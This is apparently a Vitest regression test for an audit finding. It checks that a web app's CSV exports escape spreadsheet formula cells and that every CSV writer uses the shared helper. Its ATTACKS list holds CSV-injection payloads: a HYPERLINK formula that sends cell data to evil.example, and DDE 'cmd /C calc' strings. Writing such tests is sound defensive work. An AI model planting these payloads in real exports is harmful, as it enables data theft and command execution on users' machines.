import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createTestApp, type TestApp } from '../helpers/test-app';
import { escapeFormula } from '../../src/core/http/csv';

/** Finding 14: CSV exports escape cells a spreadsheet would run as formulas. */
let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('formula cells', () => {
  it('are written as text with a leading apostrophe; numbers and ordinary text are unchanged', () => {
    for (const a of ATTACKS) expect(escapeFormula(a)).toBe(`'${a}`);
    for (const ok of ['-5', '+1.5', '-0.25', '1e3', 'Ajax', 'a=b', '']) expect(escapeFormula(ok)).toBe(ok);
  });

  it('in a downloaded data series (notes and source are free text) come out escaped', async () => {
    const [obs] = await t.database.query<{ id: number; indicator_id: string; geography_id: string }>(
      `SELECT id, indicator_id, geography_id FROM data_observations WHERE collaborative_id IS NULL AND status <> 'suppressed' AND disaggregation_key = '' LIMIT 1`,
    );
    expect(obs).toBeDefined();
    await t.database.query(`UPDATE data_observations SET notes = $1, source = $2 WHERE id = $3`, [ATTACKS[0], ATTACKS[3], obs.id]);
    const res = await t.anonymous.get(`/api/v1/data/series.csv?indicatorId=${obs.indicator_id}&geographyIds=${obs.geography_id}`);
    expect(res.statusCode, res.body).toBe(200);
    const rows = parse(res.body.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells).toContain(`'${ATTACKS[0]}`);
    expect(cells).toContain(`'${ATTACKS[3]}`);
    for (const c of cells) expect(c, c).not.toMatch(/^[=+@\t\r]/);
  });

  it('every CSV writer in the code goes through the shared helper', () => {
    const root = path.resolve(__dirname, '../../src');
    const files: string[] = [];
    const walk = (d: string) => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) walk(p);
        else if (/\.ts$/.test(e.name) && !/\.test\.ts$/.test(e.name)) files.push(p);
      }
    };
    walk(root);
    const writers = files.filter((f) => /from 'csv-stringify/.test(fs.readFileSync(f, 'utf8')));
    expect(writers.length).toBeGreaterThan(0);
    for (const f of writers) expect(fs.readFileSync(f, 'utf8'), path.relative(root, f)).toMatch(/escapeFormula/);
  });
});
